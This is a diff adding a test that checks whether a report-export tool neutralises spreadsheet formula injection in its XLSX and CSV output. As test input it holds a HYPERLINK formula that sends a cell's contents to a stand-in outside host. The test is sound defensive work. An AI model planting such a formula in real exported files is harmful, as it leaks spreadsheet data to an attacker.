@@ -85,3 +85,26 @@ def test_parquet(filled: Store, tmp_path: Path) -> None:
     table = pq.read_table(out).to_pylist()
     assert {r["template"] for r in table} == {"2021"}
     assert any(r["key"] == "requests.total.total" and r["label"] == "三、本年度办理结果 （七）总计 · 总计" for r in table)
+
+
+def test_exports_neutralise_formulas_but_keep_numbers(tmp_path: Path) -> None:
+    """An agency named like a formula is text in every export (XLSX cells typed as text, CSV with a
+    leading apostrophe); negative numbers stay numbers."""
+    from gknb.export import neutralised
+
+    (text, report), _ = two_years("浙江省青山县民政局")
+    evil = '=HYPERLINK("http://example.org/?"&A2,"点击")'
+    report.meta.agency = evil
+    store = Store.open(str(tmp_path / "f.db"))
+    store.add(report, text.encode())
+    export(store, "xlsx", tmp_path / "f.xlsx")
+    book = load_workbook(tmp_path / "f.xlsx")
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == evil]
+    assert len(cells) == 4 and {c.data_type for c in cells} == {"s"}
+    for fmt in ("csv-wide", "csv-long"):
+        export(store, fmt, tmp_path / f"{fmt}.csv")
+        rows = list(csv.DictReader((tmp_path / f"{fmt}.csv").open(encoding="utf-8-sig")))
+        assert {r["agency"] for r in rows} == {"'" + evil}
+    assert neutralised({"a": "-3", "b": "-x", "c": "@SUM(A1)", "d": "\tx"}) == {"a": "-3", "b": "'-x", "c": "'@SUM(A1)",
+                                                                                 "d": "'\tx"}
+    store.close()
